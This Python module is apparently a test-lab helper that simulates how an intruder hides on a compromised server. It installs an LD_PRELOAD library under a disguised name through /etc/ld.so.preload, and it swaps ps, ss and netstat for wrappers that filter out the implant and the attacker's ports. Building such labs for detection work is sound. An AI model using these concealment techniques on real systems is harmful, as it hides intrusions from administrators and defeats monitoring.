"""Ways to blind a server's own programs after an intrusion: a preload library, and wrappers."""

from pathlib import Path

from tests.lab.intrusion.plant import Intrusion

LIBRARY = "/usr/lib/libdbus-cache.so.1"
PRELOAD = "/etc/ld.so.preload"
WRAPPED = ("/usr/bin/ps", "/usr/bin/ss", "/usr/bin/netstat")


def preload(planted: Intrusion) -> int:
    """Hide the implant's folder and its main process from every program; return that pid."""
    server = planted.server
    pid = planted.pids()[planted.names[0]]
    name = Path(planted.store).parent.name
    source = server.root / "root/hide.c"
    source.write_bytes(Path(__file__).with_name("hide.c").read_bytes())
    defines = f"-DHIDDEN_NAME='\"{name}\"' -DHIDDEN_PID='\"{pid}\"'"
    server.shell(
        f"gcc -shared -fPIC -O2 -Wall -Werror {defines} -o {LIBRARY} /root/hide.c -ldl"
        f" && rm /root/hide.c && echo {LIBRARY} > {PRELOAD}"
    )
    return pid


def wrap_programs(planted: Intrusion) -> None:
    """Replace ps, ss and netstat by wrappers that leave out the implant."""
    folder = Path(planted.store).parent
    hidden = "|".join((*planted.names, f":{planted.port}", f":{planted.attacker_port}"))
    for path in WRAPPED:
        real = folder / Path(path).name
        wrapper = f"#!/bin/sh\\n{real} \"$@\" | grep -vE '{hidden}'\\n"
        planted.server.shell(f'mv {path} {real}; printf "{_quoted(wrapper)}" > {path}')
        planted.server.shell(f"chmod 755 {path}")


def _quoted(text: str) -> str:
    return text.replace('"', '\\"').replace("$", "\\$")
